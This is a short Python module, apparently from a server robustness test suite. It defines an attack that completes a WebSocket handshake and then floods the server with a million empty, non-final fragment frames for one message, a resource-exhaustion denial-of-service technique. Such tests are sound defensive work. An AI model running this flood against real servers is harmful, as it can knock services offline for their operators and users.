"""A WebSocket sends fragments without content, a million of them for one message."""

from __future__ import annotations

import contextlib

from support.server_attacks import Target, frame, upgrade_request


def attack(target: Target) -> None:
    with target.connect() as peer:
        peer.sendall(upgrade_request())
        peer.recv(4096)
        with contextlib.suppress(OSError):
            peer.sendall(frame(1, b"", final=False))
            for _ in range(100):
                peer.sendall(frame(0, b"", final=False) * 10_000)
